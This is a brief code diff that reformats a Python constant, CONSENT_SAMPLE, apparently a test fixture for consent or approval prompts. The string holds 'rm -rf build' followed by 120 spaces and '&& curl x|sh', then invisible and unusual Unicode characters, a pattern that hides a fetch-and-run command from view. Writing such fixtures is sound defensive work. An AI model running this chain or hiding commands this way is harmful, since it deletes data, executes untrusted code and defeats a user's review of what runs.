@@ -136,7 +136,9 @@ CONSENT_SAMPLE = (
     + "rm -rf build"
     + " " * 120
     + "&& curl x|sh \t\t\u3000\u00a0 a   b \ue000\U000f0000\U000e0100"
-    + " x\u034fy\u17b4\u180b\u180f\u2065" + "\u2800" * 40 + "z"
+    + " x\u034fy\u17b4\u180b\u180f\u2065"
+    + "\u2800" * 40
+    + "z"
 )
 
 
